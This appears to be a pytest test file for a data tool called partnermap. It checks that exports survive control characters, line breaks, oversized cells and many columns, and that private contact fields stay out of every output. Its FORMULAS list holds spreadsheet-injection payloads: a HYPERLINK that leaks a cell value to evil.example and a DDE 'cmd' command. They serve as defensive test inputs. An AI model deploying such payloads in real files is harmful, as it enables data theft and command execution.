"""Every file partnermap writes survives odd text: control characters, lone CRs, formula-like names,
long cells, many columns; and keeps private values out (issue 14: R04, R05, R09, R10, R11-R14, R26)."""

from __future__ import annotations

import csv
import json
import logging
import sqlite3
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd

import partnermap as pm
from partnermap import pages
from partnermap.export import MAX_CELL_CHARS, MAX_GPKG_COLUMNS, export_data, write_table

HEAD = "org_id,name,sector,lat,lon,email\n"
RELS = "source,target,kind\nA,B,partnership\nB,C,funding\n"


def _folder(tmp_path: Path, names: list[str], *, head: str = HEAD, extra: str = "") -> Path:
    folder = tmp_path / "data"
    folder.mkdir()
    rows = [f'{o},"{n.replace(chr(34), chr(34) * 2)}",public,26.4{i},50.1{i},{o.lower()}@x.example{extra}'
            for i, (o, n) in enumerate(zip("ABC", names, strict=True))]
    (folder / "organizations.csv").write_text(head + "\n".join(rows) + "\n", encoding="utf-8", newline="")
    (folder / "relationships.csv").write_text(RELS, encoding="utf-8")
    return folder


def run(*args: str | Path) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run([sys.executable, "-m", "partnermap", *map(str, args)], capture_output=True, text=True,
                          encoding="utf-8", timeout=600)
    assert "Traceback" not in proc.stderr + proc.stdout, proc.stderr
    return proc


# ---------------------------------------------------------------- control characters (R04)

def test_control_characters_are_replaced_at_load_with_a_warning_naming_the_cell_R04(tmp_path: Path) -> None:
    folder = _folder(tmp_path, ["Al\x0bpha", "Be\x1bta", "Gam\x00ma\x0c\ufffe"])
    data = pm.load(folder)
    assert data.organizations["name"].tolist() == ["Al pha", "Beta", "Gamma"]
    warnings = [str(p) for p in data.report.warnings]
    for row in (2, 3, 4):
        assert any(w.startswith(f"organizations.csv:{row}:name: warning: control characters") for w in warnings)


def test_every_export_of_control_characters_opens_and_keeps_the_names_R04(tmp_path: Path) -> None:
    data = pm.load(_folder(tmp_path, ["Al\x0bpha", "Be\x1bta", "Gam\x00ma"]))
    names = data.organizations["name"].tolist()
    out = tmp_path / "out"
    for fmt in ("gexf", "graphml"):
        root = ET.parse(export_data(data, out / f"e.{fmt}", format=fmt)).getroot()  # valid XML
        assert set(names) <= {v for el in root.iter() for v in el.attrib.values()} | {el.text for el in root.iter()}
    gpkg = export_data(data, out / "e.gpkg", format="gpkg")
    with sqlite3.connect(gpkg) as db:
        assert [n for (n,) in db.execute("select name from organizations order by org_id")] == names  # not cut at NUL
    back = pm.load(export_data(data, out / "e.xlsx", format="xlsx"))
    assert back.organizations["name"].tolist() == names
    assert openpyxl.load_workbook(export_data(data, out / "k.xlsx", format="kumu"))["Elements"]["A2"].value == names[0]
    geojson = json.loads(export_data(data, out / "e.geojson", format="geojson").read_text(encoding="utf-8"))
    assert [f["properties"]["name"] for f in geojson["features"]] == names


def test_writers_replace_control_characters_the_api_hands_them_R04(tmp_path: Path) -> None:
    table = pd.DataFrame({"name": ["a\x00b", "c\x0bd"]}, index=pd.Index(["x", "y"], name="org_id"))
    book = openpyxl.load_workbook(write_table(table, tmp_path / "t.xlsx"))
    assert [c.value for c in book["table"]["B"]] == ["name", "ab", "c d"]


# ---------------------------------------------------------------- line breaks (R14)

def _csv_rows(path: Path) -> int:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return len(list(csv.reader(f))) - 1


def test_a_lone_cr_in_a_name_does_not_split_csv_rows_R14(tmp_path: Path) -> None:
    folder = _folder(tmp_path, ["Al\rpha", "Be\r\nta", "Gamma"])
    data = pm.load(folder)
    assert data.organizations["name"].tolist() == ["Al\npha", "Be\nta", "Gamma"]
    out = tmp_path / "m.csv"
    assert run("metrics", folder, "-o", out).returncode == 0
    assert _csv_rows(out) == 3
    assert len(pd.read_csv(out, encoding="utf-8-sig")) == 3
    handed = write_table(pd.DataFrame({"name": ["a\rb", "c", "d"]}), tmp_path / "api.csv")  # not through load
    assert _csv_rows(handed) == 3 and pd.read_csv(handed, encoding="utf-8-sig")["name"].tolist() == ["a\nb", "c", "d"]


# ---------------------------------------------------------------- formulas (R10)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_formula_like_names_are_text_in_the_workbook_and_load_back_exactly_R10(tmp_path: Path) -> None:
    data = pm.load(_folder(tmp_path, FORMULAS))
    path = export_data(data, tmp_path / "e.xlsx", format="xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no live formula
    assert [c.value for c in openpyxl.load_workbook(path)["organizations"]["B"]][1:] == FORMULAS
    back = pm.load(path)
    assert back.report.ok and back.organizations["name"].tolist() == FORMULAS
    kumu = openpyxl.load_workbook(export_data(data, tmp_path / "k.xlsx", format="kumu"))
    assert [c.value for c in kumu["Elements"]["A"]][1:] == FORMULAS


def test_formula_like_csv_cells_get_a_quote_that_the_loader_drops_R10(tmp_path: Path) -> None:
    table = pd.DataFrame({"name": [*FORMULAS, "-dash", "\ttab"], "score": [-1.5, 2.0, -3.0, 0.5, 1.0],
                          "note": ["-1.5", "+2", "a", "b", "c"]})
    path = write_table(table, tmp_path / "t.csv")
    written = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert written["name"].tolist() == ["'" + f for f in FORMULAS] + ["'-dash", "'\ttab"]
    assert written["score"].tolist() == [-1.5, 2.0, -3.0, 0.5, 1.0]  # numbers are left alone
    assert written["note"].astype(str).tolist()[:2] == ["-1.5", "+2"]  # so is text that reads as a number
    folder = tmp_path / "again"
    folder.mkdir()
    data = pm.load(_folder(tmp_path, FORMULAS))
    write_table(data.organizations.drop(columns="geometry"), folder / "organizations.csv")
    assert pm.load(folder).organizations["name"].tolist() == FORMULAS  # read back as written, not '=…


def test_the_report_tables_and_workbook_neutralise_formulas_R10(tmp_path: Path) -> None:
    run_dir = pm.report.run_report(pm.load(_folder(tmp_path, FORMULAS)), tmp_path / "reports", focal="A",
                                   progress=False)
    orgs = pd.read_csv(run_dir / "tables" / "organizations.csv", encoding="utf-8-sig")
    assert orgs["name"].tolist() == ["'" + f for f in FORMULAS]
    book = openpyxl.load_workbook(run_dir / "tables" / "report.xlsx")
    names = [c.value for c in book["organizations"]["B" if book["organizations"]["A1"].value == "org_id" else "A"]]
    assert names[1:] == FORMULAS
    with zipfile.ZipFile(run_dir / "tables" / "report.xlsx") as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


# ---------------------------------------------------------------- sizes (R05, R26)

def test_a_geopackage_keeps_the_columns_it_can_and_says_which_it_left_out_R05(tmp_path: Path, caplog) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    extra = [f"c{i}" for i in range(2100)]
    (folder / "organizations.csv").write_text("org_id,name,sector," + ",".join(extra) + "\nA,Alpha,public,"
                                              + ",".join("1" * 2100) + "\n", encoding="utf-8")
    data = pm.load(folder)
    with caplog.at_level(logging.WARNING, logger="partnermap"):
        path = export_data(data, tmp_path / "e.gpkg", format="gpkg")
    assert "more than a GeoPackage layer holds" in caplog.text and "c2099" not in caplog.text.split("(")[0]
    with sqlite3.connect(path) as db:
        columns = [d[0] for d in db.execute("select * from organizations").description]
    assert len(columns) <= MAX_GPKG_COLUMNS + 2 and "name" in columns
    assert run("export", folder, "--format", "gpkg", "-o", tmp_path / "cli.gpkg").returncode == 0
    book = pd.read_excel(export_data(data, tmp_path / "e.xlsx", format="xlsx"), sheet_name="organizations", nrows=0)
    assert set(extra) <= set(book.columns)  # the workbook keeps them all


def test_a_cell_longer_than_a_spreadsheet_holds_is_cut_with_a_warning_naming_it_R26(tmp_path: Path, caplog) -> None:
    data = pm.load(_folder(tmp_path, ["x" * (MAX_CELL_CHARS + 10), "Beta", "Gamma"]))
    with caplog.at_level(logging.WARNING, logger="partnermap"):
        path = export_data(data, tmp_path / "e.xlsx", format="xlsx")
    assert "e.xlsx[organizations]:2:name: warning: 32,777 characters" in caplog.text
    assert pm.load(path).organizations["name"].tolist() == ["x" * MAX_CELL_CHARS, "Beta", "Gamma"]


def test_an_hsds_export_loads_back_with_its_unknown_sectors_R26(tmp_path: Path) -> None:
    pkg = tmp_path / "hsds"
    pkg.mkdir()
    (pkg / "organizations.csv").write_text("id,name,legal_status\n1,Peninsula Family Service,\n"
                                           "2,=Formula Club\ufffe,nonprofit\n", encoding="utf-8")
    (pkg / "locations.csv").write_text("id,organization_id,name,latitude,longitude\nL1,1,Main,37.5,-122.3\n"
                                       "L2,2,Hall,37.6,-122.4\n", encoding="utf-8")
    data = pm.load(pkg)
    assert set(data.organizations["sector"]) == {"unknown", "non_profit"}
    back = pm.load(export_data(data, tmp_path / "e.xlsx", format="xlsx"))
    assert back.report.ok
    assert back.organizations["sector"].tolist() == data.organizations["sector"].tolist()
    assert back.organizations["name"].tolist() == ["Peninsula Family Service", "=Formula Club"]
    assert any("have the sector 'unknown'" in str(p) for p in back.report.warnings)


# ---------------------------------------------------------------- privacy, every command (R11, R12, R13)

#: Contact values in organisations, ties and areas, under headings the one rule must catch.
SECRETS = ["second@alpha.example", "WA-0001", "third@alpha.example", "FULLWIDTH@x.example", "TIE-PHONE-77",
           "leak@area.example", "AREA-PHONE-55", "NID-SECRET"]


def _private_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "private"
    folder.mkdir()
    head = "org_id,name,sector,lat,lon,email,E - mail,ＥＭＡＩＬ,WhatsApp,الإيميل,national_no,city\n"
    rows = ["A,Alpha,public,26.40,50.10,a@alpha.example,second@alpha.example,FULLWIDTH@x.example,WA-0001,"
            "third@alpha.example,NID-SECRET,Dammam",
            "B,Beta,non_profit,26.41,50.11,,,,,,,Dammam", "C,Gamma,for_profit,26.42,50.12,,,,,,,Khobar"]
    (folder / "organizations.csv").write_text(head + "\n".join(rows) + "\n", encoding="utf-8")
    (folder / "relationships.csv").write_text("source,target,kind,Mobile No.\nA,B,partnership,TIE-PHONE-77\n"
                                              "B,C,funding,\n", encoding="utf-8")
    area = {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {
        "area_id": "Z1", "name": "Zone 1", "population": 1000, "contact_email": "leak@area.example",
        "phone": "AREA-PHONE-55"}, "geometry": {"type": "Polygon", "coordinates": [
            [[50.0, 26.3], [50.2, 26.3], [50.2, 26.5], [50.0, 26.5], [50.0, 26.3]]]}}]}
    (folder / "areas.geojson").write_text(json.dumps(area), encoding="utf-8")
    (folder / "private_columns.txt").write_text("national_no\n", encoding="utf-8")
    return folder


def _bytes(path: Path) -> bytes:
    """Everything a file holds: an .xlsx unzipped, a .gpkg's every table read through sqlite."""
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as z:
            return b"\n".join(z.read(n) for n in z.namelist())
    if path.suffix == ".gpkg":
        with sqlite3.connect(path) as db:
            tables = [t for (t,) in db.execute("select name from sqlite_master where type='table'")]
            return "\n".join(repr(row) for t in tables for row in db.execute(f'select * from "{t}"')).encode()
    return path.read_bytes()


def test_no_private_value_reaches_any_file_of_any_command_R11_R12(tmp_path: Path) -> None:
    folder = _private_folder(tmp_path)
    out = tmp_path / "out"
    commands = [["metrics", "-o", out / "m.csv"], ["metrics", "-o", out / "m.xlsx"],
                ["partners", "--focal", "A", "-o", out / "p.csv"], ["partners", "--focal", "A", "-o", out / "p.xlsx"],
                ["gaps", "-o", out / "g.csv"], ["gaps", "--focal", "A", "-o", out / "g.xlsx"],
                ["coverage", "-o", out / "c.geojson"], ["coverage", "-o", out / "c.gpkg"],
                ["coverage", "-o", out / "c.csv"], ["validate", "-o", out / "v.csv"],
                *[["map", "--kind", kind, "--focal", "A", "-o", out / f"{kind}.html"]
                  for kind in ("organizations", "coverage", "partners", "ties", "network")],
                *[["export", "--format", fmt, "-o", out / name] for fmt, name in (
                    ("gexf", "e.gexf"), ("graphml", "e.graphml"), ("gpkg", "e.gpkg"), ("geojson", "e.geojson"),
                    ("xlsx", "e.xlsx"), ("kumu", "kumu.xlsx"))],
                ["report", "--focal", "A", "-o", out / "reports"]]
    for cmd in commands:
        proc = run(cmd[0], folder, *cmd[1:])
        assert proc.returncode == 0, (cmd, proc.stderr)
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) > 30 and any(p.name == "report.xlsx" for p in files)
    for path in files:
        if path.suffix in (".png", ".ipynb"):
            continue
        data = _bytes(path)
        leaked = [s for s in SECRETS if s.encode() in data]
        assert not leaked, f"{path.relative_to(out)} carries {leaked}"
    for path in (p for p in files if p.suffix == ".ipynb"):  # notebooks carry outputs: check them too
        text = path.read_text(encoding="utf-8")
        assert not [s for s in SECRETS if s in text], path.name
    assert b"Dammam" in _bytes(out / "e.xlsx")  # public columns are still written


def test_a_private_column_cannot_be_a_coverage_breakdown_R13(tmp_path: Path) -> None:
    folder = _private_folder(tmp_path)
    for heading in ("email", "WhatsApp"):
        proc = run("coverage", folder, "--by", heading, "-o", tmp_path / "c.csv")
        assert proc.returncode == 2 and "private column" in proc.stderr
    assert not (tmp_path / "c.csv").exists()


def test_the_private_rule_folds_width_spacing_and_arabic() -> None:
    for heading in ("E - mail", "ＥＭＡＩＬ", "WhatsApp", "الإيميل", "contact_email", "Mobile No."):
        assert pm.schema.is_private(heading), heading
    assert not pm.schema.is_private("city")


# ---------------------------------------------------------------- many columns (R09)

def test_the_report_carries_the_contract_and_a_few_extra_columns_and_says_so_R09(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    extra = [f"c{i}" for i in range(300)]
    rows = [f"O{k},Org {k},public," + ",".join("v" for _ in extra) for k in range(5)]
    (folder / "organizations.csv").write_text("org_id,name,sector," + ",".join(extra) + "\n" + "\n".join(rows) + "\n",
                                              encoding="utf-8")
    data = pm.load(folder)
    assert set(extra) <= set(data.organizations.columns)  # the data keeps them
    prep = pages.prepare(data)
    shown = [c for c in prep.data.organizations.columns if c in extra]
    assert shown == extra[:pages.REPORT_EXTRA_COLUMNS]
    assert any("300 columns besides the data contract's" in str(p) and "'c50'" in str(p)
               for p in prep.data.report.problems)


# ---------------------------------------------------------------- from the second review

def test_the_control_character_warning_does_not_echo_a_private_value(tmp_path: Path) -> None:
    """The warning names the cell and the code points, never the text: it may be an e-mail or phone."""
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "organizations.csv").write_text(
        "org_id,name,sector,email,WhatsApp\nA,Alpha,public,secret@x.example\x0b,+966 50\x00 1234567\n",
        encoding="utf-8")
    report = pm.load(folder).report
    said = [str(p) for p in report.warnings]
    assert any(w.startswith("organizations.csv:2:email: warning: control characters (U+000B)") for w in said), said
    assert any(w.startswith("organizations.csv:2:WhatsApp: warning: control characters (U+0000)") for w in said)
    text = report.to_frame().to_csv()
    assert "secret@x" not in text and "1234567" not in text


def test_a_value_that_really_starts_with_a_quote_comes_back_exactly(tmp_path: Path) -> None:
    """write_table and the loader are inverses: a user's own "'=x" or "'-- note" is not changed."""
    data = pm.load(_folder(tmp_path, ["'=x", "'-- note", "=HYPERLINK(1)"]))
    assert data.organizations["name"].tolist() == ["=x", "-- note", "=HYPERLINK(1)"]  # as Excel shows such a file
    again = tmp_path / "again"
    names = ["'=x", "'-- note", "'''=y"]
    frame = data.organizations.drop(columns=["email"]).assign(name=names)
    write_table(frame, again / "organizations.csv")
    assert pm.load(again).organizations["name"].tolist() == names


def test_formula_like_text_in_a_categorical_column_is_neutralised_too(tmp_path: Path) -> None:
    out = write_table(pd.DataFrame({"name": pd.Categorical(["=HYPERLINK(1)", "plain"])}), tmp_path / "c.csv")
    with out.open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == [["name"], ["'=HYPERLINK(1)"], ["plain"]]


def test_workbook_sheet_names_and_early_dates_open_as_written(tmp_path: Path) -> None:
    """Sheet names Excel refuses are cleaned and kept apart; dates before March 1900 are ISO text, not a wrong serial."""
    from partnermap.export import write_sheets

    df = pd.DataFrame({"d": [pd.Timestamp("1900-01-15"), pd.Timestamp("2024-06-01")]})
    book = write_sheets({"a/b:c": df, "about": df, "About": df}, tmp_path / "s.xlsx")
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames == ["a_b_c", "about", "About (2)"]
    assert [c.value for c in wb["a_b_c"]["B"]][1:] == ["1900-01-15T00:00:00", pd.Timestamp("2024-06-01").to_pydatetime()]
    wb.close()
